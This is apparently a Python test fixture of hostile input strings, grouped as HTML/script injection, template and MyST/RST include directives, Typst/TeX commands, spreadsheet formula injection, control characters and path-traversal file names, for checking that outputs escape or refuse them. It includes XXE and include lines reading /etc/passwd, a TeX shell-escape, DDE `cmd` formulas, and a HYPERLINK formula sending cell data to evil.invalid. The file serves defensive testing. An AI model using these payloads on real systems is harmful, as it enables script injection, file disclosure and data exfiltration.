"""Hostile strings by family. What would run calls `trap()`, which the browser tests watch for; what would read or write a
file names one that the tests look for. A new output is tested by one line: a sink in `project.py`, or a case in a test.
"""

from __future__ import annotations

#: Script and markup, for a page.
HTML = {
    "script": "</script><script>trap('script')</script>",
    "style": "</style><script>trap('style')</script>",
    "title": "</title><script>trap('title')</script>",
    "textarea": "</textarea></noscript><script>trap('textarea')</script>",
    "image": "<img src=x onerror=trap('image')>",
    "quoted image": '"><img src=x onerror="trap(\'quoted\')">',
    "single quoted": "' autofocus onfocus='trap(\"single\")' x='",
    "svg": "<svg onload=trap('svg')><style>*{fill:url(//evil.invalid/x)}</style></svg>",
    "foreign object": "</text><foreignObject><iframe srcdoc='<script>parent.trap()</script>'></iframe></foreignObject>",
    "iframe": "<iframe src=\"javascript:parent.trap('iframe')\"></iframe>",
    "base": "<base href=//evil.invalid/><meta http-equiv=refresh content=0;url=//evil.invalid/>",
    "comment": "<!--<script>trap('comment')",
    "cdata": "]]><script>trap('cdata')</script><![CDATA[",
    "entity": "&lt;script&gt;trap('entity')&lt;/script&gt; &amp;amp; &#60;b&#62; &xxe;",
    "doctype": '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
    "address": "javascript:trap('address')",
    "spaced address": "java\tscript:trap('spaced')",
    "data address": "data:text/html,<script>parent.trap('data')</script>",
    "expression": "\");trap('expression');(\"",
    "template string": "`${trap('template')}`",
    "line separators": "a\u2028trap('separator')\u2029//",
}

#: Markup of the tools between a notebook and the page.
MARKUP = {
    "jinja": "{{ trap }}{% for x in ''.__class__.__mro__ %}{{ x }}{% endfor %}{# #}",
    "format": "{0.__class__} {name!r:>9} %(name)s %s %n ${HOME} $(id)",
    "myst role": "{eval-rst}`x` {glue:text}`nothing::here` {numref}`nowhere` {doc}`/etc/passwd`",
    "myst directive": "```{include} /etc/passwd\n```",
    "myst code": "```{code-cell}\ntrap\n```",
    "rst directive": ".. include:: /etc/passwd\n\n.. raw:: html\n   :file: /etc/passwd",
    "raw": "```{raw} html\n<script>trap('raw')</script>\n```",
    "markdown link": "[x](javascript:trap('link')) ![x](//evil.invalid/x.png) <javascript:trap('auto')>",
    "reference link": "[x][y]\n\n[y]: javascript:trap('reference')",
    "front matter": "---\nneeds: [x]\n---",
    "colon fence": ":::{raw} html\n<script>trap('fence')</script>\n:::",
    "heading": "# 标题\n\n+++\n\n| a | b |\n| - | - |",
    "footnote": "[^1] [^1]: x `` ` ``` *a **b __c ~~d $x$ \\( \\[ \\",
}

#: Typst and TeX, for the PDF.
TYPST = {
    "read": '#read("/etc/passwd")#read("x")',
    "eval": '#eval("read(\\"/etc/passwd\\")")#import "x.typ": *#include "x.typ"',
    "quote": '"; #panic("typst"); "',
    "brackets": "]]]))}}} [[[(({{{ */ /* // ",
    "math": "$ #panic() $ @nowhere <label> \\u{1F600} \\",
    "markup": "= 标题\n- a\n+ b\n/ c: d `e` *f* _g_ ~ -- ---",
    "set": '#set page(width: 0pt)#show: it => panic("show")#{while true {}}',
    "tex": "\\input{/etc/passwd}\\write18{id}$\\def\\x{\\x}\\x$",
}

#: Spreadsheet formulas; the last begin behind what a spreadsheet skips, or after a line end.
FORMULAS = {
    "command": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("https://evil.invalid/?"&A1,"x")',
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line feed": "\n=1+1",
    "full width": "＝1+1",
    "quoted cell": '",=1+1,"\n=1+1',
}

#: Characters that reorder, hide or end text, or that an output cannot hold.
CHARACTERS = {
    "bidi override": "\u202eoverride\u202c \u2066isolate\u2069",
    "zero width": "零\u200b宽\u200d字\ufeff符\u2060",
    "controls": "\x01\x08\x0b\x0c\x0e\x1f\x7f\x85\x9b31m",
    "nul": "a\x00b",
    "lone surrogates": "\ud800x\udfff",
    "noncharacters": "\ufffe\uffff\U0010ffff",
    "terminal": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;file:///etc/passwd\x1b\\\r\x08",
    "combining": "e" + "\u0301" * 60,
    "astral": "\U0001f600\U00020000",
    "white space": " \t\n\r\n\u3000\xa0 ",
}

#: Names that are paths, devices or too long.
NAMES = {
    "parent": "../../escaped",
    "windows parent": "..\\..\\escaped",
    "absolute": "/tmp/escaped",
    "drive": "C:\\escaped",
    "device": "con.txt",
    "dot": ".",
    "hidden": ".escaped",
    "long": "n" * 300,
    "quotes": "a'b\"c",
    "line end": "a\nb",
    "query": "a?b#c%2e%2e%2fd",
    "option": "--site=escaped",
    "nul name": "a\x00b",
}

FAMILIES = {"html": HTML, "markup": MARKUP, "typst": TYPST, "formulas": FORMULAS, "characters": CHARACTERS, "names": NAMES}
#: Every string by `family: name`.
STRINGS = {f"{family}: {name}": text for family, texts in FAMILIES.items() for name, text in texts.items()}
#: Those that no output can hold: refused, with a message, wherever text comes in.
REFUSED = {name: STRINGS[f"characters: {name}"] for name in ("controls", "nul", "lone surrogates", "noncharacters", "terminal")}
#: All others: shown as the text they are, wherever text goes out.
SHOWN = {name: text for name, text in STRINGS.items() if text not in REFUSED.values() and "\x00" not in text}
#: All of those in one text, for a place that takes only one.
EVERYTHING = " ".join(SHOWN.values())
#: A title that stands at the head of every page: as long as its one-page brief can take.
TITLE = " ".join(
    STRINGS[name]
    for name in (
        "html: script", "typst: quote", "html: quoted image", "characters: bidi override",
    )
)  # fmt: skip
#: A cell of a megabyte: refused too.
LARGE = "大" + "格" * 350_000
